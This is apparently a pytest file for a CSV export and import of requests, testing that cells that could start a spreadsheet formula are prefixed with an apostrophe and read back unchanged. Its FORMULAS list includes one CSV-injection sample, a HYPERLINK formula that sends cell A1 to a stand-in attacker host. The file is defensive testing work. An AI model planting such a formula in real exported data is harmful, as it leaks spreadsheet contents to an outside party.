"""The CSV of requests holds no formula, and the import reads the export back as written (pure)."""

from __future__ import annotations

from dataclasses import replace

import pytest

from domain.requests.csv_format import (
    EXPORT_COLUMNS,
    csv_line,
    export_row,
    neutralize,
    read_import,
    restore,
)
from domain.requests.fields import ContentItem
from tests.domain.test_request_fields import FILLED

# OWASP "CSV Injection": a cell starting with one of these is evaluated by a spreadsheet.
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1)"]
CONTROLS = ["\tcmd", "\rcmd"]


def _cells(**changes: object) -> dict[str, str]:
    return dict(zip(EXPORT_COLUMNS, export_row(replace(FILLED, **changes)), strict=True))  # type: ignore[arg-type]


@pytest.mark.parametrize("text", FORMULAS + CONTROLS)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_exported_as_text(text: str) -> None:
    cells = _cells(summary=text, legal_basis=text)
    assert cells["summary"] == "'" + text
    assert cells["legal_basis"] == "'" + text


def test_no_exported_cell_starts_a_formula() -> None:
    record = replace(FILLED.record, service="=1+1", internal_reason="@x", notice_delay_order="-")
    cells = _cells(summary="+1", authority_reference="=2", record=record)
    assert not [c for c in cells.values() if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_lists_and_ordinary_text_are_exported_unchanged() -> None:
    items = (ContentItem(ref="=post/1"),)
    cells = _cells(summary="a = b", record=replace(FILLED.record, content_items=items))
    assert cells["summary"] == "a = b"
    assert cells["content_items"].startswith('[{"ref": "=post/1"')


@pytest.mark.parametrize(
    "text",
    [*FORMULAS, *CONTROLS, "'=1+1", "'", "''", "'quoted'", "plain", "", "-", "a=b", "'\t"],
)
def test_the_import_reads_every_exported_cell_back_as_it_was(text: str) -> None:
    exported = csv_line(EXPORT_COLUMNS) + csv_line(export_row(replace(FILLED, summary=text)))
    [row] = read_import(exported)
    assert row.values["summary"] == text
    assert restore(neutralize(text)) == text


def test_a_cell_the_export_did_not_mark_is_read_as_it_is() -> None:
    assert [restore(c) for c in ["'plain", "'", "=1", "it's"]] == ["'plain", "'", "=1", "it's"]
    assert restore("'=1") == "=1"


def test_the_import_reads_which_request_a_row_is_from_the_export() -> None:
    exported = csv_line(EXPORT_COLUMNS) + csv_line(export_row(FILLED))
    [row] = read_import(exported)
    assert row.keys == {
        "id": str(FILLED.id),
        "reference": FILLED.reference,
        "version": str(FILLED.version),
    }
    assert "state" not in row.values
    assert "due_at" not in row.values
